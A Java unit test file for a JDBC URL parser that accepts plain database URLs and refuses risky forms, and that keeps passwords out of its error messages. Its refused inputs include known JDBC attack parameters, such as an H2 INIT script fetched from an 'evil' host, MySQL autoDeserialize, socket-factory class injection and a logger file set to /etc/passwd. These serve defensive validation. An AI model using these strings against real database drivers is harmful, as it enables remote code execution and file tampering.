package dev.holdfast.plugin.jdbc;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.nio.file.Path;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class JdbcUrlTest {

    @ParameterizedTest
    @CsvSource(
            delimiter = ' ',
            value = {
                "jdbc:postgresql://db/holdfast jdbc:postgresql://db/holdfast",
                "jdbc:postgresql://db.example.org:5432/holdfast?sslmode=verify-full&sslrootcert=/etc/ca.pem"
                        + " jdbc:postgresql://db.example.org:5432/holdfast",
                "jdbc:postgresql://a:1,b:2/x?targetServerType=primary jdbc:postgresql://a:1,b:2/x",
                "jdbc:postgresql://[::1]:5432/x jdbc:postgresql://[::1]:5432/x",
                "jdbc:mariadb://127.0.0.1:3306/x?sslMode=disable jdbc:mariadb://127.0.0.1:3306/x",
                "jdbc:mysql://db/x_y$z jdbc:mysql://db/x_y$z",
                "jdbc:h2:mem:test;DB_CLOSE_DELAY=-1 jdbc:h2:mem:test",
                "jdbc:h2:file:/data/x;CACHE_SIZE=4096;WRITE_DELAY=0 jdbc:h2:file:/data/x",
                "jdbc:sqlite:/data/snapshots.db jdbc:sqlite:/data/snapshots.db"
            })
    void whatNamesAHostAndADatabaseOrAFileIsTaken(String url, String shown) {
        JdbcUrl parsed = JdbcUrl.parse(url);

        assertThat(parsed.url()).isEqualTo(url);
        assertThat(parsed).hasToString(shown);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                "jdbc:",
                "postgresql://db/x",
                "jdbc:oracle:thin:@db:1521/x",
                "jdbc:postgresql:x",
                "jdbc:postgresql://db",
                "jdbc:postgresql:///x",
                "jdbc:postgresql://db/",
                "jdbc:postgresql://db/x/y",
                "jdbc:postgresql://db/x#table=y",
                "jdbc:mariadb:replication://a,b/x",
                "jdbc:mariadb://address=(host=a)(port=3306)/x",
                "jdbc:mysql://(host=a,port=1,autoDeserialize=true)/x",
                "jdbc:mysql:loadbalance://a,b/x",
                "jdbc:sqlite:",
                "jdbc:sqlite::memory:",
                "jdbc:sqlite::resource:http://evil.example.org/x.db",
                "jdbc:sqlite:file:x.db?vfs=y",
                "jdbc:sqlite:x.db?enable_load_extension=true",
                "jdbc:h2:~/x",
                "jdbc:h2:tcp://db/x",
                "jdbc:h2:zip:~/a.zip!/x",
                "jdbc:h2:file:~/x",
                "jdbc:h2:file:~",
                "jdbc:h2:file:split:/data/x",
                "jdbc:h2:file:memFS:x",
                "jdbc:h2:mem:",
                "jdbc:sqlite:a\0b"
            })
    void whatIsOfAnotherFormIsRefused(String url) {
        assertThatThrownBy(() -> JdbcUrl.parse(url))
                .isInstanceOf(IllegalArgumentException.class)
                .hasMessageStartingWith("snapshot.jdbc.url ");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:mariadb://db/x?allowLoadLocalInfile=true",
                "jdbc:mariadb://db/x?allowLocalInfile=true",
                "jdbc:mariadb://db/x?sessionVariables=sql_mode=''",
                "jdbc:mariadb://db/x?initSql=drop",
                "jdbc:mariadb://db/x?socketFactory=a.B",
                "jdbc:mysql://db/x?autoDeserialize=true",
                "jdbc:mysql://db/x?queryInterceptors=a.B",
                "jdbc:mysql://db/x?sslMode=disable&allowUrlInLocalInfile=true",
                "jdbc:postgresql://db/x?socketFactory=a.B&socketFactoryArg=c",
                "jdbc:postgresql://db/x?sslfactory=a.B",
                "jdbc:postgresql://db/x?SOCKETFACTORY=a.B",
                "jdbc:postgresql://db/x?loggerFile=/etc/passwd",
                "jdbc:postgresql://db/x?options=-c%20search_path=y",
                "jdbc:postgresql://db/x?sslmode=require&",
                "jdbc:postgresql://db/x?%73ocketFactory=a.B",
                "jdbc:postgresql://db/x?sslmode",
                "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil'",
                "jdbc:h2:mem:x;init=x",
                "jdbc:h2:mem:x;CACHE_SIZE=1\\;INIT=x",
                "jdbc:h2:mem:x;TRACE_LEVEL_FILE=3"
            })
    void everyParameterThatIsNotKnownToDoNoHarmIsRefused(String url) {
        assertThatThrownBy(() -> JdbcUrl.parse(url))
                .isInstanceOf(IllegalArgumentException.class)
                .hasMessageContaining("must not have the parameter")
                .hasMessageContaining("those that a URL for")
                .hasMessageNotContaining("evil");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:postgresql://me:canary@db/x",
                "jdbc:postgresql://db/x?password=canary",
                "jdbc:postgresql://db/x?sslmode=require&PASSWORD=canary",
                "jdbc:postgresql://db/x?sslpassword=canary",
                "jdbc:mariadb://db/x?keyStorePassword=canary",
                "jdbc:mariadb://db/x?pwd=canary",
                "jdbc:mysql://(host=db,user=me,password=canary)/x",
                "jdbc:h2:mem:x;PASSWORD=canary",
                "jdbc:postgresql://db/x?password=can&ary=canary"
            })
    void aPasswordIsRefusedWithTheCureAndNeverShown(String url) {
        assertThatThrownBy(() -> JdbcUrl.parse(url))
                .isInstanceOf(IllegalArgumentException.class)
                .hasMessageContaining("a URL is shown in logs and in messages; set snapshot.jdbc.user, and the"
                        + " password by HOLDFAST_SNAPSHOT_JDBC_PASSWORD or snapshot.jdbc.password-file")
                .hasMessageNotContaining("canary")
                .hasNoCause();
    }

    @Test
    void theUserAndTheTimeOutsHaveKeysOfTheirOwn() {
        assertThatThrownBy(() -> JdbcUrl.parse("jdbc:postgresql://db/x?user=me"))
                .hasMessage("snapshot.jdbc.url must not have the parameter user; set snapshot.jdbc.user");
        assertThatThrownBy(() -> JdbcUrl.parse("jdbc:postgresql://db/x?socketTimeout=0"))
                .hasMessage("snapshot.jdbc.url must not have the parameter socketTimeout; set"
                        + " snapshot.jdbc.connect-timeout, query-timeout and total-timeout");
    }

    @Test
    void aPathOfSqliteIsMadeAbsolute() {
        assertThat(JdbcUrl.parse("jdbc:sqlite:x.db").file())
                .contains(Path.of("x.db").toAbsolutePath());
    }
}
